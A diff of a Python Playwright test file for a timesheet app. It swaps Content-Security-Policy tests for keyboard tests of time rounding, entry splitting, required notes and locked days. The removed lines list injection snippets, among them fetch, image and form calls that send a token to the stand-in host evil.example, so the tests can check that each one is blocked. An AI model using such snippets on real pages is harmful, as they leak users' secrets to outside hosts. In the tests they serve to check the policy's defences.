@@ -1,42 +1,105 @@
-"""What a page must not do is kept from it, noticed by every one of these tests, and reported."""
+"""A workspace's rules under the fingers: what is refused is mended by keyboard alone."""
 
 from __future__ import annotations
 
+import re
+
 import pytest
-from playwright.sync_api import Page
+from django.utils import timezone
+from playwright.sync_api import expect
 
-# What somebody might smuggle into a page, and which of the policy's directives stops it.
-SMUGGLED = {
-    "img-src": "put('img', { src: 'https://evil.example/a?token=1' })",
-    "script-src-elem": "put('script', { text: 'x = 1' })",
-    "style-src-elem": "put('style', { textContent: 'body { color: red }' })",
-    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
-    "script-src-attr": "document.body.setAttribute('onclick', 'x = 1')",
-    "script-src": "try { setTimeout('x = 1') } catch {}",
-    "connect-src": "fetch('https://evil.example/?token=1').catch(() => {})",
-    "frame-src": "put('iframe', { src: 'https://evil.example/' })",
-    "form-action": (
-        "put('form', { action: 'https://evil.example/', method: 'post' }); "
-        "document.forms[document.forms.length - 1].submit()"
-    ),
-}
-PUT = "const put = (tag, given) => "
-PUT += "document.body.append(Object.assign(document.createElement(tag), given));"
+from tests.browser.conftest import STAND_UP, WORKSPACE, Week
+from timesheet.models import House
+
+SATURDAY = 5
 
 
-@pytest.mark.parametrize("directive", SMUGGLED)
-def test_what_is_smuggled_into_a_page_is_blocked_noticed_and_reported(
-    app: str, page: Page, blocked: list[str], directive: str
-):
-    page.goto(app)
-    page.evaluate(f"() => {{ {PUT} {SMUGGLED[directive]} }}")
-    for _ in range(50):
-        if len(blocked) == 2:
-            break
-        page.wait_for_timeout(100)
-    noticed, reported = sorted(blocked, key=lambda words: words.startswith("reported"))
-    assert noticed.startswith(f"{directive} blocked ")
-    assert reported.startswith(f"reported csp: {directive} blocked ")
-    assert "token" not in reported
-    assert page.evaluate("() => typeof x") == "undefined"
-    blocked.clear()
+@pytest.fixture
+def steps() -> House:
+    return House.objects.create(workspace_gid=WORKSPACE, rounding_minutes=15, rounding="up")
+
+
+@pytest.fixture
+def refused(steps, week: Week) -> Week:
+    """A time in no step was typed on Saturday."""
+    field = week.row().nth(SATURDAY)
+    field.focus()
+    week.page.keyboard.type("1:07")
+    week.page.keyboard.press("Enter")
+    expect(week.cell(SATURDAY)).to_have_attribute("data-state", "refused")
+    expect(week.page.locator("#failed")).to_contain_text("1:07 would be 1:15.")
+    expect(field).to_have_value("1:07")
+    assert week.minutes(SATURDAY) == []
+    field.focus()
+    return week
+
+
+def test_the_rounded_time_is_taken_with_one_key(refused: Week):
+    refused.page.keyboard.press("=")
+    expect(refused.cell(SATURDAY)).to_have_attribute("data-state", "value")
+    expect(refused.row().nth(SATURDAY)).to_have_value("1:15")
+    assert refused.minutes(SATURDAY) == [75]
+
+
+def test_the_rounded_time_is_taken_by_its_button(refused: Week):
+    refused.page.keyboard.press("Tab")
+    expect(refused.page.get_by_role("button", name="Write 1:15")).to_be_focused()
+    refused.page.keyboard.press("Enter")
+    expect(refused.row().nth(SATURDAY)).to_have_value("1:15")
+    assert refused.minutes(SATURDAY) == [75]
+
+
+def test_another_time_can_be_typed_instead(refused: Week):
+    refused.page.keyboard.type("1:30")
+    refused.page.keyboard.press("Enter")
+    expect(refused.cell(SATURDAY)).to_have_attribute("data-state", "value")
+    assert refused.minutes(SATURDAY) == [90]
+
+
+def test_a_part_is_split_off_rounded(steps, week: Week):
+    day = week.page.locator(f"#row-{STAND_UP} td[data-day]").nth(SATURDAY)
+    path = f"/tasks/{STAND_UP}/time_tracking_entries"
+    week.sandbox.post(path, duration_minutes=60, entered_on=day.get_attribute("data-day"))
+    week.page.reload()
+    week.row().nth(SATURDAY).focus()
+    week.page.keyboard.press("Alt+Enter")
+    panel = week.page.get_by_role("dialog")
+    panel.get_by_text("Move, split or delete").click()
+    panel.get_by_label("Split off").fill("0:07")
+    panel.get_by_label("Split off").press("Enter")
+    expect(panel.get_by_role("alert")).to_contain_text("0:07 would be 0:15.")
+    expect(panel.get_by_label("Split off")).to_have_value("0:07")
+    panel.get_by_role("button", name="Split off 0:15").click()
+    expect(panel.locator("ol > li")).to_have_count(2)
+    assert sorted(week.minutes(SATURDAY)) == [15, 45]
+
+
+def test_hours_without_their_note_get_it_in_the_panel(week: Week):
+    House.objects.create(workspace_gid=WORKSPACE, note_required=True)
+    field = week.row().nth(SATURDAY)
+    field.focus()
+    week.page.keyboard.type("2")
+    week.page.keyboard.press("Enter")
+    expect(week.cell(SATURDAY)).to_have_attribute("data-state", "refused")
+    field.focus()
+    week.page.keyboard.press("Tab")
+    week.page.keyboard.press("Enter")
+    panel = week.page.get_by_role("dialog")
+    expect(panel.get_by_label("Hours")).to_have_value("2")
+    panel.get_by_label("Note").fill("Moved the boats")
+    panel.get_by_role("button", name="Add").click()
+    expect(week.cell(SATURDAY)).to_have_attribute("data-state", "value")
+    assert week.minutes(SATURDAY) == [120]
+
+
+def test_a_day_that_is_shut_cannot_be_typed_in(week: Week):
+    House.objects.create(workspace_gid=WORKSPACE, lock_date=timezone.localdate())
+    week.page.reload()
+    field = week.page.locator("td[data-today] .hours").last
+    before = field.input_value()
+    field.focus()
+    week.page.keyboard.type("3")
+    week.page.keyboard.press("Delete")
+    week.page.keyboard.press("Enter")
+    expect(field).to_have_value(before)
+    expect(field).to_have_accessible_description(re.compile(r"^Mon.* are locked\.$"))
